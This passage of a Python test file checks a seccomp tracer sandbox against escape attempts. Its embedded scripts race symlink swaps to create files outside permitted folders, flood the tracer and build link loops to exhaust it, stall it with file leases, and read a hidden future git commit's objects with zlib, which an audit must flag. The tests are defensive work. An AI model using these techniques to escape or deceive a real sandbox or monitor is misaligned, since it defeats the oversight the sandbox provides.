whole = sum(open(n, "rb").read() == bytes(range(65, 65 + 16)) for n in names)
print("whole", whole, "errors", len(bad), bad[:3])
"""


@pytest.mark.heavy
def test_a_race_to_make_one_name_gives_every_thread_the_same_file(
    tmp_path: Path, seccomp: None
) -> None:
    proc, _ = _run(tmp_path, _CREATE_RACE)
    assert "whole 20 errors 0" in proc.stdout, proc.stdout + proc.stderr[-2000:]


#: the folder a name is made in swapped, while the tracer makes it, with a link to a folder the
#: caller may not write (another owner's) or a read-only bind (/usr): RENAME_EXCHANGE in a loop
_CREATE_SWAP = """\
import ctypes, os, threading
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir("/tmp/w")
os.symlink(os.getcwd() + "/theirs", "/tmp/l1")
os.symlink("/usr", "/tmp/l2")
stop = [False]
def flip():
    while not stop[0]:
        for link in (b"/tmp/l1", b"/tmp/l2"):
            libc.renameat2(-100, b"/tmp/w", -100, link, 2)
            libc.renameat2(-100, b"/tmp/w", -100, link, 2)
threading.Thread(target=flip, daemon=True).start()
made = 0
for k in range(3000):
    try:
        os.close(os.open("/tmp/w/n%d" % k, os.O_RDONLY | os.O_CREAT, 0o644))
        made += 1
    except OSError:
        pass
stop[0] = True
print("made", made)
"""


@pytest.mark.heavy
def test_a_folder_swapped_while_the_tracer_makes_a_file_in_it(
    tmp_path: Path, as_root: None
) -> None:
    """Stopped: the tracer checks the folder its own walk reached and makes the file there with
    the phase's permissions on the sandbox's mounts: nothing lands where the phase may not
    write."""
    proc, _ = _run(tmp_path, _CREATE_SWAP, _folders)
    assert "made" in proc.stdout, proc.stdout + proc.stderr[-2000:]
    assert not list((tmp_path / "work" / "theirs").iterdir())
    assert not list(Path("/usr").glob("n[0-9]*"))


# -------------------------------------------------------------- wearing the tracer out

#: one serving thread answers every open of the box: 48 threads opening at once (12,000 opens),
#: a link loop, chains of 40 and 41 links, a 4,000-byte path of links to "." (the kernel's 40
#: links, then the tracer's own link-by-link walk of it), each timed; then the future commit's
#: loose object read by hand with zlib, which the audit must still see
_EXHAUST = """\
import os, threading, time, zlib
open("f.txt", "w").write("plain\\n")
wrong = []
def flood():
    for _ in range(250):
        fd = os.open("f.txt", os.O_RDONLY)
        if os.read(fd, 10) != b"plain\\n":
            wrong.append(1)
        os.close(fd)
t0 = time.time()
threads = [threading.Thread(target=flood) for _ in range(48)]
[t.start() for t in threads]
[t.join() for t in threads]
print("flood", len(wrong), round(time.time() - t0, 1))
os.symlink("loop2", "/tmp/loop1")
os.symlink("loop1", "/tmp/loop2")
for k in range(41):
    os.symlink("c%d" % (k + 1) if k < 40 else os.getcwd() + "/f.txt", "/tmp/c%d" % k)
os.symlink(".", "/tmp/dot")
def answer(path, n=200):
    t0 = time.time()
    for _ in range(n):
        try:
            os.close(os.open(path, os.O_RDONLY))
            got = "OK"
        except OSError as exc:
            got = exc.strerror
    return got, round(time.time() - t0, 1)
print("loop", *answer("/tmp/loop1"))
print("chain40", *answer("/tmp/c1"))
print("chain41", *answer("/tmp/c0"))
print("dots", *answer("/tmp/" + "dot/" * 999 + "x"))
store = os.path.realpath("." + "git/objects")
for xx in os.listdir(store):
    if len(xx) == 2:
        for name in os.listdir(store + "/" + xx):
            text = zlib.decompress(open(store + "/" + xx + "/" + name, "rb").read())
            if b"SECRET" in text:
                print("read", text.decode("latin1").split("\\n")[-2])
"""


@pytest.mark.heavy
def test_the_tracer_worn_out_still_answers_and_fails_closed(tmp_path: Path, seccomp: None) -> None:
    """Stopped: every open answered right and in bounded time (no hang), the kernel's ELOOP
    for loops and over-long chains, and the trace whole: the hand read of the future is seen."""
    proc, audit = _run(tmp_path, _EXHAUST, timeout=110)
    out = _lines(proc)
    assert out["flood"].startswith("0 "), proc.stdout + proc.stderr[-2000:]
    assert out["loop"].startswith("Too many levels of symbolic links"), out
    assert out["chain40"].startswith("OK") and out["chain41"].startswith("Too many levels"), out
    assert out["dots"].startswith("Too many levels"), out
    assert all(float(out[k].split()[-1]) < 20 for k in ("flood", "loop", "chain41", "dots")), out
    assert SECRET in proc.stdout and _flagged(audit)


#: a write lease (F_SETLEASE) of the phase's own on its own file: an open of that file for
#: reading waits until the lease holder lets go (or lease-break-time, 45 s by default, passes).
#: One process holds the lease 3 s; a second opens the file (and waits, as the kernel makes it);
#: a third, meanwhile, opens an unrelated file and times that open
_LEASE = """\
import fcntl, os, signal, time
signal.signal(signal.SIGIO, signal.SIG_IGN)
open("leased", "w").write("x")
holder = os.open("leased", os.O_RDONLY)
fcntl.fcntl(holder, 1024, fcntl.F_WRLCK)  # F_SETLEASE
if os.fork() == 0:
    os.open("leased", os.O_RDONLY)  # waits for the lease's holder
    os._exit(0)
time.sleep(0.3)
if os.fork() == 0:
    t0 = time.time()
    os.close(os.open("t.py", os.O_RDONLY))
    print("unrelated-open", round(time.time() - t0, 1), flush=True)
    os._exit(0)
time.sleep(3)
fcntl.fcntl(holder, 1024, fcntl.F_UNLCK)
os.wait()
os.wait()
"""


@pytest.mark.heavy
def test_a_lease_on_a_file_of_its_own_stalls_only_its_opener(tmp_path: Path, seccomp: None) -> None:
    kernel, _ = _run(tmp_path / "kernel", _LEASE, pin="off")
    assert _lines(kernel)["unrelated-open"] == "0.0", kernel.stdout + kernel.stderr[-2000:]
    pinned, _ = _run(tmp_path / "pinned", _LEASE)
    assert "unrelated-open" in _lines(pinned), pinned.stdout + pinned.stderr[-2000:]
    assert float(_lines(pinned)["unrelated-open"]) < 1.0, pinned.stdout
